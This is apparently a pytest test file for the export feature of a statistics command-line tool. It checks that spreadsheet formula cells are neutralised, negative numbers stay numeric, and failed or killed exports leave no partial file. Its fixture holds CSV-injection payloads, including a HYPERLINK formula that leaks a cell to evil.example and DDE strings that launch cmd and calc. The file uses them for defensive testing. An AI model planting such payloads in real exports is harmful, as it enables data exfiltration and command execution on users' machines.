"""Exports: no formula reaches a spreadsheet, numbers stay numbers, and a failed or killed export
never leaves a partial file nor touches the file it would have replaced."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile import Run, with_data

from conftest import HEADER, TINY

# Text cells a spreadsheet would run as formulas (OWASP "CSV Injection"), as a hostile or
# careless dataset might hold them, beside figures that are negative numbers.
FORMULAS = {
    "locator": '=HYPERLINK("http://evil.example/?"&A1,"Part 3")',
    "note": "+cmd|' /C calc'!A0",
    "scope": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def single_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


HOSTILE = (
    TINY.replace(
        "source: src-b, locator: Part 3}\n  - {indicator: valid",
        "source: src-b, "
        + ", ".join(f"{key}: {single_quoted(text)}" for key, text in FORMULAS.items())
        + "}\n  - {indicator: valid",
    )
    .replace(
        "period: year_end, source: src-b, locator: Part 2",
        "period: year_end, source: src-b, locator: -2+3+cmd",
    )
    .replace("value: 9.4,", "value: -3.2,")
    .replace(
        "value: 121, qualifier: exact, period: year, yoy: {percent: 10}",
        "value: 100, qualifier: exact, period: year, yoy: {percent: -3.2}",
    )
)
assert HOSTILE.count("cmd") == 3 and HOSTILE.count("-3.2") == 2


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def rows(result: Run, delimiter: str = ",") -> list[dict[str, str]]:
    assert (result.code, result.err) == (0, ""), result
    if delimiter == "\t":  # TSV has no quoting
        lines = result.out.splitlines()
        keys = lines[0].split("\t")
        return [dict(zip(keys, line.split("\t"), strict=True)) for line in lines[1:]]
    return list(csv.DictReader(io.StringIO(result.out, newline="")))


def beta_2024(found: list[dict[str, str]]) -> dict[str, str]:
    (row,) = [
        r
        for r in found
        if (r["city"], r["year"], r["indicator"]) == ("beta", "2024", "widgets_granted")
    ]
    return row


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_formula_cells_are_neutralised(hostile: Path, fmt: str, delimiter: str) -> None:
    found = rows(with_data(hostile, "export", "-f", fmt), delimiter)
    row = beta_2024(found)
    for key, formula in FORMULAS.items():
        assert row[key] == "'" + formula, key
    (minus,) = [r for r in found if r["locator"].startswith("'-")]
    assert minus["locator"] == "'-2+3+cmd"


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_no_sanitize_keeps_cells_as_they_are(hostile: Path, fmt: str, delimiter: str) -> None:
    found = rows(with_data(hostile, "export", "-f", fmt, "--no-sanitize"), delimiter)
    row = beta_2024(found)
    for key, formula in FORMULAS.items():
        assert row[key] == formula, key


def test_list_observations_neutralises_too(hostile: Path) -> None:
    found = rows(with_data(hostile, "list", "observations", "--city", "beta", "-f", "csv"))
    assert beta_2024(found)["locator"] == "'" + FORMULAS["locator"]
    found = rows(
        with_data(hostile, "list", "observations", "--city", "beta", "-f", "csv", "--no-sanitize")
    )
    assert beta_2024(found)["locator"] == FORMULAS["locator"]


def test_tsv_rows_stay_rows_whatever_line_breaks_the_text_holds(tmp_path: Path) -> None:
    note = "one\ntwo\u2028three\u2029four"  # line and paragraph separators split lines too
    path = tmp_path / "breaks.yaml"
    path.write_text(
        TINY.replace(
            "locator: Part 6}",
            f'locator: Part 6, note: "{note.encode("unicode_escape").decode()}"}}',
        ),
        encoding="utf-8",
    )
    result = with_data(path, "export", "-f", "tsv")
    assert result.code == 0, result
    lines = result.out.splitlines()
    assert len(lines) == 14
    assert {line.count("\t") for line in lines} == {lines[0].count("\t")}
    assert sum("one two three four" in line for line in lines) == 2


def test_machine_formats_other_than_csv_and_tsv_keep_text_exact(hostile: Path) -> None:
    result = with_data(hostile, "export", "-f", "json")
    assert result.code == 0
    row = beta_2024([{k: str(v) for k, v in r.items()} for r in json.loads(result.out)])
    for key, formula in FORMULAS.items():
        assert row[key] == formula


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_negative_numbers_stay_numbers(hostile: Path, fmt: str, delimiter: str) -> None:
    found = rows(with_data(hostile, "export", "-f", fmt), delimiter)
    (share,) = [r for r in found if (r["indicator"], r["year"]) == ("widget_share", "2023")]
    assert share["value"] == "-3.2"
    (stated,) = [r for r in found if r["reported_yoy_value"].startswith(("-", "'"))]
    assert stated["reported_yoy_value"] == "-3.2"


def test_a_falling_growth_stays_a_number(hostile: Path) -> None:
    found = rows(with_data(hostile, "growth", "alpha", "-m", "widgets", "-f", "csv"))
    (fall,) = [r for r in found if (r["kind"], r["year"]) == ("observed", "2024")]
    assert (fall["change"], fall["reported_yoy_value"]) == ("-10", "-3.2")
    assert float(fall["change_pct"]) == pytest.approx(-100 / 11)
    shares = rows(with_data(hostile, "growth", "alpha", "-m", "widget_share", "-f", "csv"))
    (down,) = [r for r in shares if (r["kind"], r["year"]) == ("observed", "2023")]
    assert down["value"] == "-3.2"
    assert float(down["change"]) == pytest.approx(-8.5)


# Where an export cannot go ------------------------------------------------------------------


def export_error(data: Path, target: Path | str) -> str:
    result = with_data(data, "export", "-o", str(target))
    assert result.code == 1, result
    assert result.out == ""
    return result.error


def test_missing_directory(tiny_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "missing" / "deeper" / "out.csv"
    assert export_error(tiny_path, target) == (
        f"cannot write {target}: directory {target.parent} does not exist"
    )
    assert not (tmp_path / "missing").exists()


def test_parent_is_a_file(tiny_path: Path, tmp_path: Path) -> None:
    target = tiny_path / "out.csv"
    assert (
        export_error(tiny_path, target) == f"cannot write {target}: {tiny_path} is not a directory"
    )


def test_a_directory_is_no_target_for_a_file_format(tiny_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    (target / "kept").write_text("x", encoding="utf-8")
    result = with_data(tiny_path, "export", "--format", "csv", "-o", str(target))
    assert result.code == 2, result
    assert result.out == ""
    assert str(target) in result.error and "datapackage" in result.error
    assert [p.name for p in target.iterdir()] == ["kept"]


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root writes anywhere")
def test_read_only_directory(tiny_path: Path, tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        target = locked / "out.csv"
        assert export_error(tiny_path, target) == f"cannot write {target}: Permission denied"
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o700)


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs /proc")
def test_a_place_nobody_can_create_files_in(tiny_path: Path) -> None:
    """Even root cannot create files in /proc."""
    target = Path("/proc/ipstats-export-test.csv")
    assert export_error(tiny_path, target).startswith(f"cannot write {target}: ")
    assert not target.exists()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_device_that_is_full(tiny_path: Path) -> None:
    """A device is written to, not replaced; a full one is a clear error."""
    assert export_error(tiny_path, "/dev/full") == "cannot write /dev/full: No space left on device"
    assert Path("/dev/full").is_char_device()


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="needs /dev/null")
def test_a_device_is_written_to_not_replaced(tiny_path: Path) -> None:
    result = with_data(tiny_path, "export", "-o", "/dev/null")
    assert (result.code, result.err) == (0, "wrote 13 rows to /dev/null\n")
    assert Path("/dev/null").is_char_device()


def test_a_symbolic_link_keeps_pointing_at_the_new_content(tiny_path: Path, tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert with_data(tiny_path, "export", "-o", str(link)).code == 0
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8").startswith("city,year,indicator,")


# A failed or killed export leaves the old file as it was ------------------------------------

OLD = "the previous export\n"


def leftovers(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (("--city", "nation"), 1),  # no data
        (("--city", "atlantis"), 2),  # unknown name
        (("--from", "2024", "--to", "2020"), 2),  # bad range
        (("--year", "abc"), 2),  # not a year
    ],
    ids=["no data", "unknown city", "bad range", "bad year"],
)
def test_a_failed_export_leaves_the_old_file(
    tiny_path: Path, tmp_path: Path, args: tuple[str, ...], code: int
) -> None:
    target = tmp_path / "out.csv"
    target.write_text(OLD, encoding="utf-8")
    result = with_data(tiny_path, "export", "-o", str(target), *args)
    assert result.code == code
    assert result.error
    assert target.read_text(encoding="utf-8") == OLD
    assert leftovers(tmp_path) == []


def test_a_successful_export_replaces_the_old_file(tiny_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text(OLD, encoding="utf-8")
    result = with_data(tiny_path, "export", "-o", str(target))
    assert (result.code, result.err) == (0, f"wrote 13 rows to {target}\n")
    assert target.read_text(encoding="utf-8").startswith("city,year,indicator,")
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize(
    "fmt", ["csv", "tsv", "json", "jsonl", "yaml", "markdown", "sqlite", "datapackage"]
)
def test_every_format_fails_cleanly_where_it_cannot_write(
    tiny_path: Path, tmp_path: Path, fmt: str
) -> None:
    for target in (tmp_path / "missing" / "out", tiny_path / "out"):
        result = with_data(tiny_path, "export", "-f", fmt, "-o", str(target))
        assert result.code == 1, result
        assert result.error.startswith("cannot write "), result
    assert [p.name for p in tmp_path.iterdir()] == [tiny_path.name]


def test_an_invalid_dataset_leaves_the_old_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("a: &a [1]\nb: *a\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    target.write_text(OLD, encoding="utf-8")
    assert export_error(bad, target).startswith(f"invalid dataset {bad}:2:4: ")
    assert target.read_text(encoding="utf-8") == OLD


def ipstats(*args: str, cwd: Path, **options: object) -> subprocess.Popen[str]:
    """The real command line in a process of its own."""
    env = {**os.environ, "IPSTATS_CACHE_DIR": str(cwd / "cache"), "COLUMNS": "120"}
    return subprocess.Popen(
        [sys.executable, "-m", "ipstats", *args],
        cwd=cwd,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **options,  # type: ignore[call-overload]
    )


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="resource limits are POSIX")
def test_an_export_that_fails_while_writing_leaves_the_old_file(
    tiny_path: Path, tmp_path: Path
) -> None:
    """The file-size limit makes the write itself fail, half-way, as a full disk would."""
    import resource

    target = tmp_path / "out.csv"
    target.write_text(OLD, encoding="utf-8")

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (512, 512))

    process = ipstats(
        "--no-cache",
        "--data",
        str(tiny_path),
        "export",
        "-o",
        str(target),
        cwd=tmp_path,
        preexec_fn=small_files,
    )
    out, err = process.communicate(timeout=60)
    assert process.returncode == 1, err
    assert (out, err) == ("", f"Error: cannot write {target}: File too large\n")
    assert target.read_text(encoding="utf-8") == OLD
    assert leftovers(tmp_path) == []


def big_dataset(path: Path, count: int) -> Path:
    line = (
        "  - {indicator: widgets_granted, city: alpha, year: %d, value: %d, qualifier: exact, "
        "period: year, scope: part %d, source: src-a, locator: Part 1}\n"
    )
    body = "".join(line % (1900 + i % 200, i, i) for i in range(count))
    path.write_text(HEADER + "observations:\n" + body, encoding="utf-8")
    return path


def stopped_while_writing(process: subprocess.Popen[str], directory: Path, size: int) -> bool:
    """Stop the export once its temporary file exists; whether it then had bytes left to write.

    Stopped (SIGSTOP, confirmed by waitpid) with fewer than ``size`` bytes in its temporary
    file, the export has more to write, then Python code to run before the file is renamed
    into place: a signal it is then sent is handled before the rename, however fast it runs.
    """
    deadline = time.monotonic() + 60
    while not leftovers(directory):  # waits for a state, not for a time
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "the export never started writing"
        time.sleep(0.001)
    process.send_signal(signal.SIGSTOP)
    _, status = os.waitpid(process.pid, os.WUNTRACED)
    if not os.WIFSTOPPED(status):  # it had ended already, and waitpid has reaped it
        process.returncode = os.waitstatus_to_exitcode(status)
        return False
    written = [(directory / name).stat().st_size for name in leftovers(directory)]
    if written and written[0] < size:
        return True
    process.send_signal(signal.SIGCONT)  # it had written everything: let it finish
    return False


@pytest.fixture(scope="module")
def big_export(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int]:
    """A dataset of 20,000 observations, and the size of its complete export."""
    directory = tmp_path_factory.mktemp("big")
    data = big_dataset(directory / "big.yaml", 20_000)
    complete = directory / "complete.csv"
    done = ipstats("--no-cache", "--data", str(data), "export", "-o", str(complete), cwd=directory)
    _, err = done.communicate(timeout=60)
    assert done.returncode == 0, err
    return data, complete.stat().st_size


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="SIGTERM and SIGSTOP are POSIX")
@pytest.mark.parametrize("existing", [None, OLD], ids=["new file", "existing file"])
def test_an_export_killed_half_way_leaves_no_partial_file(
    tmp_path: Path, big_export: tuple[Path, int], existing: str | None
) -> None:
    data, size = big_export
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "export.csv"
    for _ in range(3):  # each try either stops the export half-way or lets it finish
        if existing is None:
            target.unlink(missing_ok=True)
        else:
            target.write_text(existing, encoding="utf-8")
        process = ipstats(
            "--no-cache", "--data", str(data), "export", "-o", str(target), cwd=tmp_path
        )
        if stopped_while_writing(process, out_dir, size):
            break
        process.communicate(timeout=60)
    else:
        pytest.fail("the export finished writing each time before it could be stopped")
    process.send_signal(signal.SIGTERM)
    process.send_signal(signal.SIGCONT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130, err  # interrupted, not a crash
    assert "Traceback" not in err
    assert leftovers(out_dir) == []
    assert sorted(p.name for p in out_dir.iterdir()) == ([] if existing is None else ["export.csv"])
    if existing is not None:
        assert target.read_text(encoding="utf-8") == existing
